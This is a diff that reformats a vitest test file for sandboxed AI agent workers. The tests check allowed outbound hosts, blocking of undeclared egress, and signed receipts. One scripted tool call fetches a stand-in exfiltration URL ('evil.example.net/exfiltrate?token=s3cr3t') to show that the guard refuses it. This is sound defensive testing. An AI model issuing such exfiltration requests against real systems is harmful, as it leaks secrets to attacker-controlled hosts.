@@ -8,7 +8,11 @@
  */
 import { TaskState } from '@a2a-js/sdk';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { startScriptedProvider, startServer, type StubServer } from '../../plugin/runtime/__test-support__/stub-provider';
+import {
+  startScriptedProvider,
+  startServer,
+  type StubServer,
+} from '../../plugin/runtime/__test-support__/stub-provider';
 import { generateReceiptKeyPair, verifyReceipt } from '../../plugin/runtime/receipts';
 import { askWithSdk } from './support/a2a-client';
 import { compileWorker, exampleWorkspace, type ExampleWorkspace } from './support/example-workspace';
@@ -28,7 +32,9 @@ beforeAll(async () => {
   keys = await generateReceiptKeyPair();
   pages = await startServer((request, res) => {
     res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
-    res.end(`<html><head><title>Changelog &amp; notes</title><script>secret()</script></head><body><h1>Release 2.0</h1><p>Adds <b>dark mode</b>.</p><!-- ${request.path} --></body></html>`);
+    res.end(
+      `<html><head><title>Changelog &amp; notes</title><script>secret()</script></head><body><h1>Release 2.0</h1><p>Adds <b>dark mode</b>.</p><!-- ${request.path} --></body></html>`,
+    );
   });
   cleanups.push(() => pages.close());
   // A tool that bypasses the runtime's egress-checked fetch, to show the platform gateway blocks too.
@@ -47,7 +53,10 @@ afterAll(async () => {
 
 type Script = Parameters<typeof startScriptedProvider>[0]['script'];
 
-async function startSummarizer(script: Script, options: { slug?: string; mode?: 'loader' | 'direct' } = {}): Promise<{ worker: StartedWorker; provider: StubServer }> {
+async function startSummarizer(
+  script: Script,
+  options: { slug?: string; mode?: 'loader' | 'direct' } = {},
+): Promise<{ worker: StartedWorker; provider: StubServer }> {
   const provider = await startScriptedProvider({ wire: 'openai-chat', apiKey: OPENAI_KEY, script });
   cleanups.push(() => provider.close());
   const compiled = await compileWorker(ws.root, options.slug ?? 'web-summarizer');
@@ -65,7 +74,10 @@ describe('web-summarizer (frontier OpenAI pin, a fetch tool) in workerd', () => 
   it('answers the SDK client: the model calls fetch_page on a declared endpoint, then summarises it', async () => {
     const { worker, provider } = await startSummarizer([
       { toolCalls: [{ name: 'fetch_page', arguments: { url: ARCHIVED_PAGE } }] },
-      { text: (ctx) => `Summary of "${JSON.parse(ctx.lastToolResults[0]!).title}": ${JSON.parse(ctx.lastToolResults[0]!).text.replace(/\n/g, ' ')}` },
+      {
+        text: (ctx) =>
+          `Summary of "${JSON.parse(ctx.lastToolResults[0]!).title}": ${JSON.parse(ctx.lastToolResults[0]!).text.replace(/\n/g, ' ')}`,
+      },
     ]);
     const answer = await askWithSdk(worker.url, `summarize ${ARCHIVED_PAGE} for a release manager`);
     expect(answer.card.name).toBe('Web summarizer');
@@ -75,9 +87,15 @@ describe('web-summarizer (frontier OpenAI pin, a fetch tool) in workerd', () => 
     expect(provider.requests).toHaveLength(2);
     expect(provider.requests[0]!.headers['authorization']).toBe(`Bearer ${OPENAI_KEY}`);
     expect(provider.requests[0]!.body).toMatchObject({ model: 'gpt-5-2025-08-07', temperature: 0.3 });
-    expect(provider.requests[0]!.body.tools.map((t: { function: { name: string } }) => t.function.name)).toEqual(['fetch_page']);
+    expect(provider.requests[0]!.body.tools.map((t: { function: { name: string } }) => t.function.name)).toEqual([
+      'fetch_page',
+    ]);
     // Everything left through the host's outbound, to declared origins only.
-    expect(worker.outbound.map((o) => `${o.method} ${new URL(o.url).origin}`)).toEqual(['POST https://api.openai.com', 'GET https://web.archive.org', 'POST https://api.openai.com']);
+    expect(worker.outbound.map((o) => `${o.method} ${new URL(o.url).origin}`)).toEqual([
+      'POST https://api.openai.com',
+      'GET https://web.archive.org',
+      'POST https://api.openai.com',
+    ]);
     const receipts = await worker.receipts(1);
     expect(receipts).toHaveLength(1);
     expect(receipts[0]).toMatchObject({
@@ -97,7 +115,10 @@ describe('web-summarizer (frontier OpenAI pin, a fetch tool) in workerd', () => 
   });
 
   it('blocks a fetch of an undeclared host inside the isolate: the tool fails with egress_blocked and nothing leaves', async () => {
-    const { worker } = await startSummarizer([{ toolCalls: [{ name: 'fetch_page', arguments: { url: 'https://evil.example.net/exfiltrate?token=s3cr3t' } }] }, { text: (ctx) => `tool said: ${ctx.lastToolResults[0]}` }]);
+    const { worker } = await startSummarizer([
+      { toolCalls: [{ name: 'fetch_page', arguments: { url: 'https://evil.example.net/exfiltrate?token=s3cr3t' } }] },
+      { text: (ctx) => `tool said: ${ctx.lastToolResults[0]}` },
+    ]);
     const answer = await askWithSdk(worker.url, 'summarize https://evil.example.net/exfiltrate');
     expect(answer.state).toBe(TaskState.TASK_STATE_COMPLETED);
     expect(answer.text).toContain('egress_blocked');
@@ -116,7 +137,14 @@ describe('web-summarizer (frontier OpenAI pin, a fetch tool) in workerd', () => 
 
   it("blocks code that bypasses the runtime's fetch: the isolate's egress guard refuses it before the loader's gateway would see it", async () => {
     ws.edit('web-summarizer', (d) => {
-      d.toolInventory.push({ id: 'raw-fetch', name: 'raw_fetch', version: '1.0.0', provenance: 'skill-package', risk: 'high', description: 'Fetches with the global fetch.' });
+      d.toolInventory.push({
+        id: 'raw-fetch',
+        name: 'raw_fetch',
+        version: '1.0.0',
+        provenance: 'skill-package',
+        risk: 'high',
+        description: 'Fetches with the global fetch.',
+      });
     });
     const { worker } = await startSummarizer([
       {
@@ -128,8 +156,14 @@ describe('web-summarizer (frontier OpenAI pin, a fetch tool) in workerd', () => 
       { text: (ctx) => ctx.lastToolResults.join(' | ') },
     ]);
     const answer = await askWithSdk(worker.url, 'probe the network');
-    expect(answer.text).toBe('{"error":"egress_blocked: evil.example.net is not on this agent\'s egress allow-list"} | {"status":200,"egress":null}');
-    expect(worker.outbound.map((o) => new URL(o.url).host)).toEqual(['api.openai.com', 'web.archive.org', 'api.openai.com']);
+    expect(answer.text).toBe(
+      '{"error":"egress_blocked: evil.example.net is not on this agent\'s egress allow-list"} | {"status":200,"egress":null}',
+    );
+    expect(worker.outbound.map((o) => new URL(o.url).host)).toEqual([
+      'api.openai.com',
+      'web.archive.org',
+      'api.openai.com',
+    ]);
   });
 
   it('stops a run whose provider hangs at wallClockMs, says why, and still leaves one signed receipt', async () => {
@@ -158,7 +192,17 @@ describe('fallback-writer (small Anthropic pin, the diff tool) in workerd', () =
     const provider = await startScriptedProvider({
       wire: 'anthropic-messages',
       apiKey: ANTHROPIC_KEY,
-      script: [{ toolCalls: [{ name: 'apply_unified_diff', arguments: { source: 'a\nb\nc\n', diff: '--- a/f\n+++ b/f\n@@ -1,3 +1,3 @@\n a\n-b\n+B\n c\n' } }] }, { text: (ctx) => ctx.lastToolResults[0]! }],
+      script: [
+        {
+          toolCalls: [
+            {
+              name: 'apply_unified_diff',
+              arguments: { source: 'a\nb\nc\n', diff: '--- a/f\n+++ b/f\n@@ -1,3 +1,3 @@\n a\n-b\n+B\n c\n' },
+            },
+          ],
+        },
+        { text: (ctx) => ctx.lastToolResults[0]! },
+      ],
     });
     cleanups.push(() => provider.close());
     const compiled = await compileWorker(ws.root, 'fallback-writer');
@@ -168,13 +212,18 @@ describe('fallback-writer (small Anthropic pin, the diff tool) in workerd', () =
       upstreams: { 'https://api.anthropic.com': provider.url },
     });
     cleanups.push(() => worker.dispose());
-    const answer = await askWithSdk(worker.url, JSON.stringify({ path: 'f', source: 'a\nb\nc\n', instruction: 'uppercase b' }));
+    const answer = await askWithSdk(
+      worker.url,
+      JSON.stringify({ path: 'f', source: 'a\nb\nc\n', instruction: 'uppercase b' }),
+    );
     expect(answer.state).toBe(TaskState.TASK_STATE_COMPLETED);
     expect(JSON.parse(answer.text)).toEqual({ applied: true, result: 'a\nB\nc\n', hunks: 1 });
     expect(provider.requests[0]!.headers['x-api-key']).toBe(ANTHROPIC_KEY);
     expect(provider.requests[0]!.body).toMatchObject({ model: 'claude-haiku-4-5-20251001', max_tokens: 2048 });
     const receipts = await worker.receipts(1);
-    expect(receipts.map((r) => [r.pinning.card, r.toolCalls])).toEqual([['fallback-writer', [{ seq: 1, name: 'apply_unified_diff', ok: true }]]]);
+    expect(receipts.map((r) => [r.pinning.card, r.toolCalls])).toEqual([
+      ['fallback-writer', [{ seq: 1, name: 'apply_unified_diff', ok: true }]],
+    ]);
     expect(await verifyReceipt(receipts[0], keys.publicJwk)).toBe(true);
   });
 });
